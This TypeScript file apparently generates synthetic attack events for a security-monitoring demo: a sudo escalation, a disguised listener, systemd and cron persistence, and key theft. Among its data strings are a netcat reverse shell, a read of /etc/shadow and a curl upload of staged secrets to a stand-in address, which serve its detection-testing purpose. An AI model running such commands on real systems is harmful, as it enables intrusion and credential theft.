import { HOUR, type DemoHost } from './host';
import { ALICE, BOB } from './personas/users';

// The attack stories of the demo's last day. Their rows carry no marker in the stream; the
// story name only travels beside it (DemoStream.stories), so the demo can say which it found.

export function attackStories(h: DemoHost, base: number): void {
  // 1. bob, who never uses sudo, becomes root
  let t = base + 15 * HOUR + 12 * 60;
  const bobShell = h.login(t - 600, BOB, '10.0.8.23');
  const sudo = h.proc(t, BOB, '/usr/bin/sudo', 'sudo su -', bobShell, BOB.home, 'sudo by a user who never uses it', '0');
  const rootShell = h.proc(t + 2, BOB, '/bin/bash', '-bash', sudo, '/root', 'sudo by a user who never uses it', '0');
  h.history(t, BOB, 'sudo su -', 'sudo by a user who never uses it');

  // 2. a new listener on a high port, started from that root shell
  t += 300;
  const listener = h.proc(t, BOB, '/tmp/.cache/kworkerd', '/tmp/.cache/kworkerd -l -p 31337', rootShell, '/tmp/.cache', 'a new listener on a high port', '0');
  h.listen(t + 1, listener, '/tmp/.cache/kworkerd', 31337, '0.0.0.0', 'added', 'a new listener on a high port');

  // 3. persistence: a systemd unit and a crontab entry
  t += 240;
  h.fileEvent(t, null, '/etc/systemd/system/dbus-update.service', 'CREATED', 'cron or systemd persistence');
  h.proc(t + 5, BOB, '/usr/bin/systemctl', 'systemctl enable --now dbus-update.service', rootShell, '/root', 'cron or systemd persistence', '0');
  h.proc(t + 30, BOB, '/usr/bin/crontab', 'crontab /tmp/.cache/c', rootShell, '/root', 'cron or systemd persistence', '0');
  h.fileEvent(t + 31, null, '/var/spool/cron/crontabs/root', 'UPDATED', 'cron or systemd persistence');

  // 4. a reverse shell to a new public address
  t = base + 23 * HOUR + 41 * 60;
  const nc = h.proc(t, BOB, '/usr/bin/nc', 'nc -e /bin/sh 203.0.113.50 4444', bobShell, '/tmp', 'a reverse shell');
  h.connect(t + 1, BOB, nc, '/usr/bin/nc', '203.0.113.50', 4444, 'a reverse shell');
  const py = h.proc(t + 40, BOB, '/usr/bin/python3', `python3 -c 'import pty;pty.spawn("/bin/bash")'`, nc, '/tmp', 'a reverse shell');
  h.proc(t + 45, BOB, '/bin/bash', '/bin/bash', py, '/tmp', 'a reverse shell');

  // 5. alice logs in from a new public address at 03:00
  t = base + 3 * HOUR + 7 * 60;
  const shell = h.login(t, ALICE, '198.51.100.23', 'a login from a new address at an unusual hour');
  h.loggedIn(t + 5, ALICE, 'pts/3', '198.51.100.23', t, shell, 'a login from a new address at an unusual hour');
  h.proc(t + 30, ALICE, '/usr/bin/id', 'id', shell, ALICE.home, 'a login from a new address at an unusual hour');
  h.proc(t + 45, ALICE, '/usr/bin/cat', 'cat /etc/shadow', shell, ALICE.home, 'a login from a new address at an unusual hour');

  // 6. staging and compressing data, then sending it out
  t += 20 * 60;
  const st = 'staging and compressing data before exfiltration';
  h.proc(t, ALICE, '/usr/bin/find', 'find /home /srv -name *.pem -o -name id_rsa', shell, ALICE.home, st);
  h.proc(t + 20, ALICE, '/usr/bin/mkdir', 'mkdir -p /dev/shm/.s', shell, ALICE.home, st);
  h.proc(t + 25, ALICE, '/usr/bin/cp', 'cp -r /srv/app/config /home/bob/.ssh /dev/shm/.s', shell, ALICE.home, st);
  h.proc(t + 40, ALICE, '/usr/bin/tar', 'tar czf /dev/shm/.s.tgz /dev/shm/.s', shell, ALICE.home, st);
  const curl = h.proc(t + 60, ALICE, '/usr/bin/curl', 'curl -s -T /dev/shm/.s.tgz https://198.51.100.77/u', shell, ALICE.home, st);
  h.connect(t + 61, ALICE, curl, '/usr/bin/curl', '198.51.100.77', 443, st);
  h.history(t + 60, ALICE, 'curl -s -T /dev/shm/.s.tgz https://198.51.100.77/u', st);
}
